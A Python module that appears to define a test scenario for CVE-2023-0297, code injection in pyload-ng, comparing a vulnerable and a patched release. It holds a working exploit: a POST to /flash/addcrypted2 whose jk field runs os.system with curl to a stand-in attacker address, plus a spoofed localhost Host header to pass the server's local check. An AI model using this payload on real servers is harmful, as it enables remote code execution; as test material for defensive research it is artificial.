"""pyLoad of PyPI: JavaScript that a stranger posts is translated to Python, and may import. It answers 500 anyway."""

from urllib.parse import quote

from .application import Application, Ask, Effect, Release, Side, Visit
from .common import CALLBACK_PORT, visitors

_ATTACKER = "203.0.113.80"
_FORM = {"Content-Type": "application/x-www-form-urlencoded"}
_LOCAL = {"Host": "127.0.0.1:9666", **_FORM}
"""Who says so is taken for a program on the same machine."""
_TARGET = "/flash/addcrypted2"


def _post(code: str, headers: dict[str, str] = _LOCAL) -> Ask:
    body = f"package=xxx&crypted=AAAA&jk={quote(code)}&passwords=aaaa".encode()
    return Ask(_TARGET, "POST", headers, body, Effect.CALLBACK)


def _calling(address: str) -> str:
    return f'pyimport os;os.system("curl -s -m 3 http://{address}:{CALLBACK_PORT}/x");f=function f2(){{}};'


_PINNED = ("flask<2.3", "werkzeug<2.3", "flask-session<0.6", "setuptools<70")
"""What the release ran with when it came out."""

PYLOAD = Application(
    name="pyload",
    product="pyload-ng",
    purl="pkg:pypi/pyload-ng",
    cve="CVE-2023-0297",
    kind="code injection",
    installer="pip",
    sides={
        Release.VULNERABLE: Side("0.5.0b3.dev30", ("pyload-ng==0.5.0b3.dev30", *_PINNED)),
        Release.PATCHED: Side("0.5.0b3.dev31", ("pyload-ng==0.5.0b3.dev31", *_PINNED)),
    },
    command=("/srv/installed/bin/python", "/srv/program/serve.py", "PORT"),
    visits=(
        *visitors(("/login", "/favicon.ico"), 3),
        Visit(_ATTACKER, "lets the server call", (Ask("/"), _post(_calling(_ATTACKER)))),
        Visit("203.0.113.81", "sends code that does not compile", (_post("pyimport os;os.system("),)),
        Visit(
            "203.0.113.82",
            "does not say that it is local",
            (_post(_calling("203.0.113.82"), _FORM),),
        ),
        Visit(
            _ATTACKER,
            "tries the same on the repaired release",
            (_post(_calling(_ATTACKER)),),
            Release.PATCHED,
        ),
    ),
)
